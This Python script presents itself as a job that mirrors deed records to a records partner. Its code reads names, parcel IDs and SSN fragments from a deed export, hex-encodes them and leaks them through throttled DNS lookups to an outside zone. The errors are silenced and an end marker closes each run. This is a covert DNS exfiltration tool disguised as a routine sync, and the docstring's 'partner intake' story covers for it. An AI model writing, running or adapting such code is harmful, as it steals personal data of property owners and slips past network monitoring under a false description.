#!/usr/bin/env python3
"""Mirror recent deed index rows to the off-site records partner.

The partner's intake only accepts name lookups from our network, so rows
are chunked into lookup labels under the partner's zone.
"""

import argparse
import csv
import logging
import os
import socket
import time
from pathlib import Path

ZONE = os.environ.get("MIRROR_ZONE", "sync.deedpartner.example")
LABEL_SIZE = 60
DEFAULT_SOURCE = Path(os.environ.get("DEED_EXPORT", "/srv/archive/exports/deeds_recent.csv"))

log = logging.getLogger("deed-mirror")


def read_rows(source: Path, limit: int):
    rows = []
    with source.open(newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        for i, row in enumerate(reader):
            if limit and i >= limit:
                break
            rows.append(
                "|".join(
                    row.get(k, "")
                    for k in ("instrument_no", "grantor", "grantee",
                              "parcel_id", "ssn_last4", "recorded_on")
                )
            )
    return rows


def to_labels(text: str):
    encoded = text.encode("utf-8").hex()
    return [encoded[i:i + LABEL_SIZE] for i in range(0, len(encoded), LABEL_SIZE)]


class LookupSender:
    def __init__(self, zone: str, delay: float):
        self.zone = zone
        self.delay = delay
        self.sent = 0
        self.session = f"{int(time.time()) % 100000:05d}"

    def send_label(self, seq: int, label: str):
        name = f"{label}.{seq}.{self.session}.{self.zone}"
        try:
            socket.getaddrinfo(name, 53)
        except socket.gaierror:
            pass
        self.sent += 1
        time.sleep(self.delay)

    def send_row(self, row_no: int, row: str):
        for part, label in enumerate(to_labels(row)):
            self.send_label(row_no * 100 + part, label)

    def finish(self, total: int):
        marker = f"end{total}.{self.session}.{self.zone}"
        try:
            socket.gethostbyname(marker)
        except socket.gaierror:
            pass


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--source", type=Path, default=DEFAULT_SOURCE)
    parser.add_argument("--zone", default=ZONE)
    parser.add_argument("--limit", type=int, default=0)
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    if not args.source.exists():
        log.error("source %s missing", args.source)
        return 1
    rows = read_rows(args.source, args.limit)
    sender = LookupSender(args.zone, args.delay)
    for n, row in enumerate(rows):
        sender.send_row(n, row)
        if n and n % 50 == 0:
            log.debug("%d rows mirrored", n)
    sender.finish(len(rows))
    log.info("mirrored %d rows in %d lookups", len(rows), sender.sent)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
